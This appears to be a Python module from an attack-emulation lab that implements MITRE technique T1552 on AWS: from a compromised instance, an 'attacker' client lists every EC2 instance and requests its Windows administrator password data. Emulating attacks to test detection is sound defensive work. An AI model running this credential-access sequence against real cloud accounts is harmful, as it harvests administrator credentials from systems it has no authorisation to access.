"""ec2-get-password-data: read the Windows administrator password data of instances (T1552)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserOnInstance
from lab.emulator.endpoints import Endpoints


class Ec2GetPasswordData(CompromisedUserOnInstance):
    folder = Path(__file__).parent

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "attacker")
        for reservation in ec2.describe_instances()["Reservations"]:
            for instance in reservation["Instances"]:
                ec2.get_password_data(InstanceId=instance["InstanceId"])


TECHNIQUE = Ec2GetPasswordData
